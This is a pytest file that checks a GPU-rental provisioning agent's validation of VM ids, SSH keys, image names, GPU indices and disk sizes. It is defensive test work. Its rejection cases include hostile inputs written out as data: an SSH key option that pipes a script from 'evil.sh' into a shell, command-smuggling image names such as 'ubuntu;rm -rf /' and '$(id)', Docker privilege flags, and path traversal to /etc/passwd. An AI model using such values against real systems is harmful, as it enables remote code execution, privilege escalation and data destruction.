"""The agent validates every request field itself: the platform is not the only thing that may call it."""
import json

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa

from provisioning.agent import gpumarket_agent as agent
from tests.provisioning.sshkit import new_keypair

ED25519 = new_keypair("renter@laptop")[1]
ED25519_2 = new_keypair("renter@desktop")[1]
BODY = ED25519.split()[1]


def without_keys(value) -> str | None:
    """A test id without the keys, which are new in every process: each pytest-xdist worker must collect the same
    ids (None: pytest's own id, the argument's name and position)."""
    return value.replace(BODY, "BODY").replace(ED25519_2.split()[1], "BODY2") if isinstance(value, str) else None


def _openssh(private_key):
    return private_key.public_key().public_bytes(
        serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH
    ).decode()


RSA = _openssh(rsa.generate_private_key(public_exponent=65537, key_size=2048))
ECDSA = _openssh(ec.generate_private_key(ec.SECP256R1())) + " ops key 2024"


def request(**changes):
    req = {"vm_id": "inst-42", "gpu_indices": [1, 0], "ssh_public_keys": [ED25519],
           "image": {"docker": "nvidia/cuda:12.2.0-base-ubuntu22.04"}, "disk_gb": 50}
    req.update(changes)
    return req


def refusal(req, runtime="docker", present=(0, 1, 2, 3)):
    with pytest.raises(agent.AgentError) as exc:
        agent.validate_create(req, runtime, list(present))
    assert exc.value.code == "invalid_request"
    return exc.value.field


def test_a_valid_request_gives_a_canonical_spec():
    vm_id, spec = agent.validate_create(request(ssh_public_keys=[ED25519, RSA, ECDSA]), "docker", [0, 1, 2, 3])
    assert vm_id == "inst-42"
    assert spec == {"gpu_indices": [0, 1], "ssh_public_keys": [ED25519, RSA, ECDSA],
                    "image": {"docker": "nvidia/cuda:12.2.0-base-ubuntu22.04"}, "disk_gb": 50}


@pytest.mark.parametrize(
    "vm_id", ["", "Inst-42", "-inst", "inst_42", "inst.42", "../etc", "inst-42\n", "a" * 64, 42, None, "inst 42"]
)
def test_bad_vm_ids(vm_id):
    assert refusal(request(vm_id=vm_id)) == "vm_id"


def test_longest_vm_id_is_accepted():
    assert agent.validate_create(request(vm_id="a" * 63), "docker", [0, 1])[0] == "a" * 63


@pytest.mark.parametrize(
    "key",
    [
        f'command="curl evil.sh | sh" ssh-ed25519 {BODY}',  # options before the key
        f"no-pty,from=\"*\" {ED25519}",
        f"{ED25519} {ED25519_2}",  # two keys on one line
        f"{ED25519}\n{ED25519_2}",  # two lines
        f"{ED25519}\r",
        f"ssh-ed25519 {BODY} comment\x00hidden",
        f"ssh-ed25519 {BODY}\tcomment",
        f"ssh-ed25519  {BODY}",  # double space: not the canonical one-line form
        f"ssh-dss {BODY}",  # type not allowed
        "ssh-ed25519 not-base64!",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5",  # truncated blob
        f"ssh-rsa {BODY}",  # body holds an ed25519 key, type says rsa
        "ssh-ed25519",
        "",
        42,
    ],
    ids=without_keys,
)
def test_bad_public_keys(key):
    assert refusal(request(ssh_public_keys=[ED25519, key])) == "ssh_public_keys"


@pytest.mark.parametrize("keys", [[], ED25519, [ED25519] * 33, None], ids=without_keys)
def test_bad_key_lists(keys):
    assert refusal(request(ssh_public_keys=keys)) == "ssh_public_keys"


@pytest.mark.parametrize(
    "name",
    [
        "ubuntu;rm -rf /",
        "ubuntu && id",
        "$(id)",
        "`id`",
        "img|nc",
        "img > /etc/passwd",
        "--privileged",
        "-v/:/host",
        "Ubuntu",
        "ubuntu:22.04 --rm",
        "ubuntu\n",
        "../../etc/passwd",
        "a" * 300,
        "",
    ],
)
def test_bad_docker_images(name):
    assert refusal(request(image={"docker": name})) == "image"


@pytest.mark.parametrize(
    "name",
    [
        "nvidia/cuda:12.2.0-base-ubuntu22.04",
        "ubuntu",
        "ghcr.io/gpumarket/ssh-cuda:1.4",
        "registry.example.com:5000/team/img@sha256:" + "a" * 64,
        "pytorch/pytorch:2.3.0-cuda12.1-cudnn8-runtime",
    ],
)
def test_good_docker_images(name):
    assert agent.validate_create(request(image={"docker": name}), "docker", [0, 1])[1]["image"] == {"docker": name}


@pytest.mark.parametrize("name", ["../base", "ubuntu/22.04", "ubuntu 22.04", "ubuntu;reboot", "-ubuntu", "a..b"])
def test_bad_libvirt_images(name):
    assert refusal(request(image={"libvirt": name}), runtime="libvirt") == "image"


def test_runtime_needs_its_own_image_kind():
    assert refusal(request(image={"docker": "ubuntu"}), runtime="libvirt") == "image"
    assert refusal(request(image={"podman": "ubuntu"})) == "image"
    # sim runs no image: none needed
    assert agent.validate_create(request(image={}), "sim", [0, 1])[1]["image"] == {}


@pytest.mark.parametrize("indices", [[], [1, 1], [True], ["0"], [0.0], [7], 0, None, list(range(65))])
def test_bad_gpu_indices(indices):
    assert refusal(request(gpu_indices=indices)) == "gpu_indices"


@pytest.mark.parametrize("disk", [0, -1, "50", True, 1.5, 65537])
def test_bad_disk_sizes(disk):
    assert refusal(request(disk_gb=disk)) == "disk_gb"


def test_unknown_fields_are_refused():
    assert refusal(request(privileged=True)) == "privileged"


def test_handle_answers_invalid_request_as_json_with_exit_2():
    env = {"GPUMARKET_RUNTIME": "docker"}
    answer, status = agent.handle(["vm", "status"], json.dumps({"vm_id": "x;reboot"}), env)
    assert status == 2
    assert answer == {"ok": False, "agent_version": agent.AGENT_VERSION,
                      "error": {"code": "invalid_request", "field": "vm_id", "message": answer["error"]["message"]}}


@pytest.mark.parametrize(
    ("argv", "stdin", "field"),
    [
        (["vm", "status"], "{not json", "request"),
        (["vm", "status"], "[1, 2]", "request"),
        (["vm", "reboot"], "{}", "command"),
        (["format-disk"], "{}", "command"),
        (["vm", "list"], json.dumps({"runtime": "docker"}), "runtime"),  # this node runs sim
        (["vm", "list"], json.dumps({"runtime": "qemu"}), "runtime"),
    ],
)
def test_handle_refuses_malformed_calls(tmp_path, argv, stdin, field):
    env = {"GPUMARKET_RUNTIME": "sim", "GPUMARKET_SIM_ROOT": str(tmp_path), "GPUMARKET_SIM_PROFILE": "/nonexistent"}
    answer, status = agent.handle(argv, stdin, env)
    assert (status, answer["ok"], answer["error"]["code"], answer["error"]["field"]) == (
        2, False, "invalid_request", field)


def test_benchmark_refuses_malformed_requests():  # the benchmark's own tests: tests/provisioning/test_benchmark*.py
    answer, status = agent.handle(["benchmark"], json.dumps({"device": "tpu"}), {})
    assert (status, answer["error"]["code"], answer["error"]["field"]) == (2, "invalid_request", "device")
